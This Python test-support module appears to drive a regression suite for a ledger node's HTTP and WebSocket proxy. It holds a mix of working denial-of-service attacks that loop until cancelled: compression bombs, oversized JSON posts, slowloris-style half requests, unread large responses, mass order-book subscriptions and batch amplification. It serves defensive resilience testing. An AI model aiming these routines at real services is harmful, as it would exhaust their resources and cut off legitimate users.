"""Attacks that once stopped the proxy for everybody, each from addresses of its own, repeated until cancelled."""

import asyncio
import socket
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress

import orjson

from tests.support.raw_client import post
from tests.support.raw_websocket import HANDSHAKE, frame

Address = tuple[str, int]
Attack = Callable[[Address, str], Awaitable[None]]
"""Attacks the proxy at an address from a source address, until it is disconnected; it is then called again."""

_PATIENCE = 10.0
_MESSAGE_BYTES = 998_000


@asynccontextmanager
async def connected(
    proxy: Address, source: str, *, small: bool = False
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection from `source`, with a `small` receive buffer for one that does not read."""
    connecting = socket.socket()
    connecting.setblocking(False)
    if small:
        connecting.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connecting.bind((source, 0))
    await asyncio.get_running_loop().sock_connect(connecting, proxy)
    reader, writer = await asyncio.open_connection(sock=connecting, limit=65536)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _write_and_read(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes) -> None:
    """Write `data` and throw away what comes, until the proxy closes, or for some seconds after all is written."""

    async def read() -> None:
        while await reader.read(65536):
            pass

    reading = asyncio.create_task(read())
    try:
        async with asyncio.timeout(_PATIENCE):
            writer.write(data)
            await writer.drain()
            await reading
    except TimeoutError:
        pass
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


@asynccontextmanager
async def _session(
    proxy: Address, source: str, *, deflate: bool = False, small: bool = False
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    extensions = b"Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n" if deflate else b""
    async with connected(proxy, source, small=small) as (reader, writer):
        writer.write(HANDSHAKE + extensions + b"\r\n")
        await reader.readuntil(b"\r\n\r\n")
        yield reader, writer


def _deflated(text: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return frame((packer.compress(text) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4], rsv=4)


def _filled(command: str, unit: str, size: int = _MESSAGE_BYTES) -> bytes:
    items = ",".join([unit] * (size // (len(unit) + 1)))
    return f'{{"command":"{command}","a":[{items}]}}'.encode()


async def compressed_messages(proxy: Address, source: str) -> None:
    """Messages of about 1 kB that unpack to 1 MB of small numbers, of a method that is refused, 50 in one write."""
    async with _session(proxy, source, deflate=True) as (reader, writer):
        await _write_and_read(reader, writer, _deflated(_filled("stop", "1.1")) * 50)


async def compressed_containers(proxy: Address, source: str) -> None:
    """The same of empty arrays, of a method that is allowed."""
    async with _session(proxy, source, deflate=True) as (reader, writer):
        await _write_and_read(reader, writer, _deflated(_filled("fee", "[]")) * 20)


async def large_posts(proxy: Address, source: str) -> None:
    """Requests of 1 MB full of small values, one after the other."""
    items = ",".join(["1.1"] * (_MESSAGE_BYTES // 4))
    body = f'{{"method":"fee","params":[{{"a":[{items}]}}]}}'.encode()
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, _head(len(body)) + body)


def _head(length: int) -> bytes:
    return b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % length


async def growing_numbers(proxy: Address, source: str) -> None:
    """Numbers that are longer once they are written as a float."""
    body = b'{"method":"ledger_current","params":[{"a":[' + b",".join([b"1e15"] * 60_000) + b"]}]}"
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, (_head(len(body)) + body) * 3)


async def slow_bodies(proxy: Address, source: str) -> None:
    """A request whose body never comes."""
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, _head(999_999) + b"{")


async def half_heads(proxy: Address, source: str) -> None:
    """A head that is never complete."""
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, b"POST / HTTP/1.1\r\nHost")


async def tiny_chunks(proxy: Address, source: str) -> None:
    """A body in chunks of one byte."""
    head = b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, head + b"1\r\nx\r\n" * 300_000)


async def slow_reads(proxy: Address, source: str) -> None:
    """A request that keeps a connection to the node for seconds."""
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, post({"method": "ripple_path_find", "params": [{}]}))


async def unread_responses(proxy: Address, source: str) -> None:
    """A response of 4 MB that is not read."""
    async with connected(proxy, source, small=True) as (_, writer):
        writer.write(post({"method": "ledger_data", "params": [{}]}))
        await asyncio.sleep(_PATIENCE)


async def unread_messages(proxy: Address, source: str) -> None:
    """Responses of 4 MB on a WebSocket that is not read."""
    async with _session(proxy, source, small=True) as (_, writer):
        writer.write(frame(b'{"command":"ledger_data","id":1}') * 10)
        await asyncio.sleep(_PATIENCE)


async def refused_commands(proxy: Address, source: str) -> None:
    """Commands that are refused without a node."""
    async with _session(proxy, source) as (reader, writer):
        commands = (b'{"command":"stop"}', b'{"command":"fee","admin_user":"x"}', b'{"command":"batch"}', b"{")
        await _write_and_read(reader, writer, b"".join(map(frame, commands)) * 2_000)


async def gets(proxy: Address, source: str) -> None:
    """GET and OPTIONS without end."""
    async with connected(proxy, source) as (reader, writer):
        unit = b"GET / HTTP/1.1\r\nHost: x\r\n\r\nOPTIONS / HTTP/1.1\r\nHost: x\r\n\r\n"
        await _write_and_read(reader, writer, unit * 10_000)


async def many_books(proxy: Address, source: str) -> None:
    """Subscriptions to thousands of order books."""
    issuer = "rHb9CJAWyB4rj91VRWn96DkukG4bwd"
    async with _session(proxy, source) as (reader, writer):
        requests = []
        for start in range(0, 27_000, 3_000):
            books = [
                {
                    "taker_gets": {"currency": f"{number % 4096:03X}", "issuer": f"{issuer}{number:05}"},
                    "taker_pays": {"currency": "XRP"},
                }
                for number in range(start, start + 3_000)
            ]
            requests.append(frame(orjson.dumps({"command": "subscribe", "books": books})))
        await _write_and_read(reader, writer, b"".join(requests))


async def amplified(proxy: Address, source: str) -> None:
    """A batch, each item of which takes many requests to the node."""
    items = [{"method": "account_tx", "account": "r", "api_version": 2}] * 100
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, post({"method": "batch", "params": items}))


async def escaped_quotes(proxy: Address, source: str) -> None:
    """A string of 960 kB in which every quotation mark is escaped, next to a bracket."""
    body = b'{"method":"fee","params":[{"a":"' + b'\\"[' * 320_000 + b'"}]}'
    async with connected(proxy, source) as (reader, writer):
        await _write_and_read(reader, writer, _head(len(body)) + body)


async def handshakes(proxy: Address, source: str) -> None:
    """Sessions opened and closed in a loop, each with hundreds of invalid offers of compression."""
    offers = b"permessage-deflate; client_max_window_bits=99, " * 600
    async with connected(proxy, source) as (reader, writer):
        writer.write(HANDSHAKE + b"Sec-WebSocket-Extensions: " + offers + b"x\r\n\r\n")
        await reader.readuntil(b"\r\n\r\n")


MIX: tuple[tuple[Attack, int], ...] = (
    (compressed_messages, 1),
    (compressed_containers, 1),
    (large_posts, 2),
    (growing_numbers, 1),
    (half_heads, 50),
    (tiny_chunks, 1),
    (slow_reads, 100),
    (unread_responses, 50),
    (unread_messages, 10),
    (refused_commands, 1),
    (gets, 1),
    (many_books, 1),
    (amplified, 1),
    (escaped_quotes, 10),
    (handshakes, 10),
    *((slow_bodies, 100) for _ in range(10)),
)
"""Each attack with the number of its connections at a time; every entry has an address of its own."""


async def attack(proxy: Address, attack: Attack, source: str) -> None:
    """Repeat `attack` from `source` for ever; what the proxy does about it is its own affair."""
    while True:
        with suppress(ConnectionError, OSError, EOFError):
            await attack(proxy, source)
        await asyncio.sleep(0.05)


async def attack_all(proxy: Address) -> None:
    """All attacks of the mix, until cancelled."""
    async with asyncio.TaskGroup() as attackers:
        for number, (each, connections) in enumerate(MIX, 1):
            for _ in range(connections):
                attackers.create_task(attack(proxy, each, f"127.0.1.{number}"))
